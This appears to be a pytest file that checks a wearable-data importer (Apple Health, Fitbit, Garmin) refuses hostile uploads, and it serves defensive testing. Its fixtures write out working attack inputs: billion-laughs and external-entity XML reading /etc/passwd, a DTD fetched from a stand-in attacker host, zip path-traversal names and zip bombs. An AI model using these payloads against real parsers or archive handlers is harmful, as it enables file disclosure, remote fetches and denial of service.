"""Untrusted exports: XML attacks, zip bombs, path traversal and truncated files are refused
with a clear DataError, and nothing is returned, so nothing stored can change."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from nof1.exceptions import DataError
from nof1.wearables import Limits, _safety, import_apple_health, merge_daily
from nof1.wearables.fitbit import import_fitbit
from nof1.wearables.garmin import import_garmin

NOW = dt.datetime(2026, 4, 1, 9, 0, tzinfo=dt.UTC)
STEP = ('<Record type="HKQuantityTypeIdentifierStepCount" sourceName="Watch" unit="count" '
        'startDate="2026-03-28 10:00:00 +0000" endDate="2026-03-28 10:10:00 +0000" '
        'value="{value}"/>')
GOOD = f'<?xml version="1.0"?>\n<HealthData>{STEP.format(value=1000)}</HealthData>\n'
LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE HealthData [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<HealthData>""" + STEP.format(value="&lol3;") + "</HealthData>\n"
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE HealthData [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<HealthData>""" + STEP.format(value="&secret;") + "</HealthData>\n"
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE HealthData [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<HealthData>""" + STEP.format(value=1) + "</HealthData>\n"
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE HealthData SYSTEM "http://attacker.invalid/health.dtd">
<HealthData>""" + STEP.format(value=1) + "</HealthData>\n"


def write(tmp_path: Path, text: str | bytes, name: str = "export.xml") -> Path:
    path = tmp_path / name
    if isinstance(text, str):
        text = text.encode()
    path.write_bytes(text)
    return path


def zipped(tmp_path: Path, members: dict[str, bytes | str], name: str = "export.zip") -> Path:
    path = tmp_path / name
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, data in members.items():
            archive.writestr(member, data)
    return path


def refused(path: Path, says: str, **options: object) -> DataError:
    with pytest.raises(DataError) as caught:
        import_apple_health(path, imported_at=NOW, **options)  # type: ignore[arg-type]
    assert says in str(caught.value), str(caught.value)
    assert str(path) in str(caught.value)
    return caught.value


def test_a_good_file_imports_so_the_refusals_below_are_about_the_attack(tmp_path):
    assert import_apple_health(write(tmp_path, GOOD), imported_at=NOW).daily["steps"][0] == 1000


@pytest.mark.parametrize("text", [LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY],
                         ids=["billion-laughs", "external-entity", "parameter-entity"])
def test_xml_entities_are_refused(tmp_path, text):
    refused(write(tmp_path, text), "refused: the XML declares entities")


def test_an_external_dtd_is_refused(tmp_path):
    refused(write(tmp_path, EXTERNAL_DTD), "refused: the XML names an external DTD")


def test_entity_attacks_inside_a_zip_are_refused_too(tmp_path):
    path = zipped(tmp_path, {"apple_health_export/export.xml": LAUGHS})
    refused(path, "billion laughs")


def test_a_truncated_xml_is_refused(tmp_path):
    refused(write(tmp_path, GOOD[: len(GOOD) - 20]), "truncated or not well-formed")


def test_a_file_that_is_not_xml_is_refused(tmp_path):
    refused(write(tmp_path, b"\x00\x01binary junk"), "not well-formed")


def test_a_truncated_zip_is_refused(tmp_path):
    whole = zipped(tmp_path, {"apple_health_export/export.xml": GOOD * 1}).read_bytes()
    path = write(tmp_path, whole[: len(whole) // 2], "cut.zip")
    refused(path, "truncated")


def test_a_zip_with_a_damaged_member_is_refused(tmp_path):
    path = zipped(tmp_path, {"apple_health_export/export.xml": GOOD + "<!--" + "x" * 5000
                             + "-->"})
    data = bytearray(path.read_bytes())
    middle = data.index(b"PK\x01\x02") // 2  # inside the compressed member
    data[middle] ^= 0xFF
    path.write_bytes(bytes(data))
    refused(path, "damaged or truncated")


@pytest.mark.parametrize("name", ["../export.xml", "/etc/export.xml", "a/../../export.xml",
                                  "..\\export.xml", "C:/export.xml"])
def test_a_zip_with_a_path_traversal_name_is_refused(tmp_path, name):
    path = zipped(tmp_path, {"apple_health_export/export.xml": GOOD, name: GOOD})
    refused(path, "path traversal")


def test_a_zip_bomb_is_refused_from_its_directory(tmp_path):
    bomb = GOOD.replace("</HealthData>", "<!--" + " " * 20_000_000 + "--></HealthData>")
    path = zipped(tmp_path, {"apple_health_export/export.xml": bomb})
    refused(path, "zip bomb")


def test_a_zip_larger_than_the_total_limit_is_refused_from_its_directory(tmp_path):
    path = zipped(tmp_path, {"apple_health_export/export.xml": GOOD, "other.bin": "x" * 5000})
    refused(path, "unpacks to", limits=Limits(max_total_bytes=4000))


def test_a_bomb_whose_directory_lies_is_refused_while_reading(tmp_path, monkeypatch):
    """The directory check is switched off here, as if the directory lied: reading stops."""
    bomb = GOOD.replace("</HealthData>", "<!--" + " " * 20_000_000 + "--></HealthData>")
    path = zipped(tmp_path, {"apple_health_export/export.xml": bomb})
    monkeypatch.setattr(_safety, "check_member", lambda *args: None)
    refused(path, "zip bomb")


def test_reading_stops_at_the_total_limit(tmp_path):
    stream = _safety.GuardedReader(io.BytesIO(b"x" * 3000), "s.xml",
                                   Limits(max_total_bytes=2500), )
    with pytest.raises(DataError, match="more than 2,500 bytes"):
        while stream.read(1000):
            pass


def test_a_plain_xml_beyond_the_total_limit_is_refused(tmp_path):
    refused(write(tmp_path, GOOD), "more than 100 bytes", limits=Limits(max_total_bytes=100))


def test_nothing_stored_changes_when_an_import_is_refused(tmp_path):
    stored = import_apple_health(write(tmp_path, GOOD, "good.xml"), imported_at=NOW).daily
    before = stored.copy()
    try:
        merge_daily(stored, import_apple_health(write(tmp_path, LAUGHS), imported_at=NOW))
    except DataError:
        pass
    pd.testing.assert_frame_equal(stored, before)


def test_fitbit_and_garmin_zips_get_the_same_checks(tmp_path):
    traversal = zipped(tmp_path, {"../steps-2026-03-01.json": "[]"}, "takeout.zip")
    with pytest.raises(DataError, match="path traversal"):
        import_fitbit(traversal, imported_at=NOW)
    bomb = zipped(tmp_path, {"DI_CONNECT/UDSFile_1.json": "[" + " " * 20_000_000 + "]"},
                  "garmin.zip")
    with pytest.raises(DataError, match="zip bomb"):
        import_garmin(bomb, imported_at=NOW)
